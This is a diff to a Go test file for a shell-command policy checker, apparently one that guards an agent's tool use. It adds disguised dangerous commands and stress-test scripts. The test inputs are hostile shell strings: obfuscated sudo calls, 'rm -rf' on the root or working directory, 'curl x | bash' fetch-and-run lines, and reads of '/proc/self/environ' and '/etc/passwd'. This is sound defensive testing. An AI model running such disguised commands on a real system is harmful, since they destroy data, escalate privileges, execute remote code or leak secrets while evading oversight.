@@ -1,6 +1,7 @@
 package policy
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -17,7 +18,7 @@ func TestDisguises(t *testing.T) {
 			"alias l='sudo ls'; l", "c=sudo; $c x", "x=; $x sudo ls", `su"$x"do ls`, "for c in sudo; do $c x; done", "for c in sudo ls; do $c x; done", "a=(sudo ls); \"${a[@]}\"", "echo sudo x | tee f | sh", "if true; then bash; fi <<< 'sudo x'", "mapfile -C 'sudo x' -c1 a",
 			"tar --to-command='sudo x' -xf a", "x='sudo ls'; eval \"$x\"", "coproc X { sudo x; }", "command -p sudo x", "env -P /x sudo x", "timeout -v 5 sudo x",
 			"find -delete", "find . -name '*' -delete", "find . ! -name x -delete", "find . -name x -o -delete", "find . -mindepth 1 -delete", "find . \\( -name a -o -type f \\) -delete",
-			"rm -rf $(pwd)", "rm -rf ~+", "d=/; rm -rf $d", "d=/; rm -rf \"$d\"/*", "rimraf .",
+			"a=sXdo; b=u; ${a//X/$b} x", "rm -rf $(pwd)", "rm -rf ~+", "d=/; rm -rf $d", "d=/; rm -rf \"$d\"/*", "rimraf .",
 			"{ curl x; } | bash -e", "$(curl x)", "curl x | xargs -I% sh -c %", "x=$(curl y); eval \"$x\"", "curl x | while read l; do eval \"$l\"; done", "bash < <(curl x)", "sh <<< \"$(curl x)\"", "curl x | bash /dev/stdin", "curl x | bash -s a", "curl x | sh -s -- --yes",
 			"echo x > /proc/$PPID/fd/1", "cat \"/proc/$PPID/environ\"", "cp /pr\"oc\"/$$/mem a", "tee --x=/proc/$PPID/fd/1", "cat //proc/$PPID/maps", "cat /proc/self/environ", "cat /dev/fd/3",
 			"git -C /etc status", "git --git-dir=/etc/x log", "wc --files0-from=/etc/passwd", "wc --files0=/etc/passwd", "diff --from-file=/etc/passwd a", "cat ~root/x", "grep -f/etc/passwd x", "tar -xf a -C/etc",
@@ -168,10 +169,15 @@ func TestHugeScripts(t *testing.T) {
 		t.Skip("large scripts on one goroutine: nothing for the race detector")
 	}
 	const kib = 1 << 10
+	long := strings.Repeat("x", 4000)
 	for name, script := range map[string]string{
 		"long": strings.Repeat("ls; ", 256*kib), "substitutions": strings.Repeat("$(", 20*kib) + strings.Repeat(")", 20*kib), "subshells": strings.Repeat("( ", 10*kib) + "a" + strings.Repeat(")", 10*kib),
 		"braces": strings.Repeat("{1..256} ", 6*kib), "nested braces": "echo " + strings.Repeat("{a,b}", 4*kib), "commands": strings.Repeat("a;", 30*kib), "evals": strings.Repeat("eval ", 12*kib) + "ls",
 		"functions": strings.Repeat("f(){ ", 300) + "a" + strings.Repeat(";}", 300), "variables": strings.Repeat("x=$x$x;", 8*kib) + "$x", "pipes": strings.Repeat("a|", 4*kib) + "a", "patterns": strings.Repeat("cat /usr/*/*/*;", 300),
+		"doubled variables": "a=1;" + strings.Repeat("a=$a$a;", 200) + "echo $a", "a loop's variable": "for i in " + long + "; do echo " + strings.Repeat("$i", 3*kib) + "; done",
+		"copies of a variable": "a=" + long + ";" + strings.Repeat("b=x$a;", 2*kib) + "echo $b", "directories": numbered("cd d%d; ls;", 40), "deep directories": "a=x;" + strings.Repeat("cd $a/$a; a=$a/$a;", 60) + "ls",
+		"a replacement": "a=" + long + "; b=${a//x/" + strings.Repeat("y", 40*kib) + "}; $b", "replacements": "a=" + long + "; b=${a//x/${a//x/${a//x/$a}}}; $b", "a replacement in a word": "a=" + long + "; ls ${a//x/${a//x/$a}}",
+		"deep replacements": "a=;" + strings.Repeat("${a//x/", 4*kib) + strings.Repeat("}", 4*kib),
 	} {
 		call := bash(script)
 		call.Card.Title = name
@@ -179,6 +185,15 @@ func TestHugeScripts(t *testing.T) {
 			t.Errorf("%s: %s", name, got)
 		}
 	}
+}
+
+// numbered repeats a format with the numbers from 0 on.
+func numbered(format string, n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, format, i)
+	}
+	return b.String()
 }
 
 // Scripts that ran without a question in an earlier version, although they do
